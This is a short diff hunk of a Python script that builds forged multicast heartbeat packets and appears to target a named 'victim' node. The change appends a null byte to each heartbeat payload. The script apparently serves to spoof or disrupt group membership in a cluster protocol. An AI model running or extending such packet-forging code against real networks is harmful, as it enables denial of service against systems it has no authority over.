@@ -310,7 +310,7 @@ import socket, struct, sys, time, random
 victim, member, iface = int(sys.argv[1], 16), int(sys.argv[2], 16), sys.argv[3]
 G = ('225.0.0.37', 12345)
 def beat(t_ms, name, port):
-    return varint(t_ms) + zigzag(0) + string(name) + varint(0) + varint(500) + varint(port) + varint(0) + varint(0)
+    return varint(t_ms) + zigzag(0) + string(name) + varint(0) + varint(500) + varint(port) + varint(0) + varint(0) + b'\x00'
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
 s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(('', 12345))
